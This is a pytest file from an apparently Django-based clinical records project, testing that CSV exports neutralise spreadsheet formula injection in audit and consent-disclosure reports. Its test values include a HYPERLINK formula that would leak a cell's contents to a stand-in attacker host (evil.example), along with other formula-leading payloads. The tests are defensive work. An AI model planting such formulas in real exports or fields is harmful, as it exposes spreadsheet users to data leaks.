"""Every CSV export writes its cells through one helper (core.csv_export) that neutralises spreadsheet
formulas (OWASP "CSV injection"): a cell starting with =, +, -, @, a tab or a carriage return gets a leading
apostrophe, so a spreadsheet opens it as text. A failed sign-in's User-Agent lands in the audit CSV; a
consent's recipient and purpose land in the accounting of disclosures."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from openiop.consent.services import disclosure_make
from openiop.consent.tests.builders import consent_for
from openiop.core.csv_export import csv_safe

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
LEADING = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tcmd", "\rcmd"]


@pytest.mark.parametrize("value", LEADING)
def test_a_cell_starting_with_a_formula_character_is_written_as_text(value):
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Judge Maria Lopez", "2026-01-02", "", "a=b", "O'Brien"])
def test_an_ordinary_cell_is_written_unchanged(value):
    assert csv_safe(value) == value


def test_numbers_and_empty_values_are_written_unchanged():
    assert csv_safe(-5) == -5 and csv_safe(None) is None


def test_a_failed_sign_in_with_a_formula_user_agent_opens_as_text_in_the_audit_csv(db, privacy_officer, client_for):
    Client(HTTP_USER_AGENT=HYPERLINK).post(
        reverse("accounts:login"), {"username": "nobody-here", "password": "wrong password"}
    )
    response = client_for(privacy_officer).get(reverse("audit:report_csv"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    agents = [row[rows[0].index("user_agent")] for row in rows[1:]]
    assert "'" + HYPERLINK in agents
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_a_recipient_and_purpose_starting_with_a_formula_character_open_as_text_in_the_accounting_csv(
    lead, patient_a, clinician_a, client_for
):
    recipient = lead + 'HYPERLINK("http://evil.example","Court")'
    purpose = lead + "1+1 compliance"
    consent = consent_for(patient_a, clinician_a, recipient_name=recipient, purpose=purpose)
    disclosure_make(
        acting_user=clinician_a, patient=patient_a, consent=consent, information=["attendance"], method="pdf"
    )
    response = client_for(clinician_a).get(reverse("consent:accounting", args=[patient_a.pk]), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    header = rows.index(["date", "recipient", "purpose", "information", "method", "consent", "disclosed by", "labels"])
    (row,) = rows[header + 1 :]
    assert row[1] == "'" + recipient and row[2] == "'" + purpose
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_a_tab_or_carriage_return_inside_a_recipient_never_leads_a_cell_of_the_accounting_csv(
    patient_a, clinician_a, client_for
):
    consent = consent_for(patient_a, clinician_a, recipient_name="\t=1+1", purpose="\r@SUM(A1)")
    disclosure_make(
        acting_user=clinician_a, patient=patient_a, consent=consent, information=["attendance"], method="pdf"
    )
    response = client_for(clinician_a).get(reverse("consent:accounting", args=[patient_a.pk]), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_no_module_but_the_helper_writes_csv_itself():
    from pathlib import Path

    import openiop

    root = Path(openiop.__file__).parent
    writers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]
    assert writers == ["core/csv_export.py"]
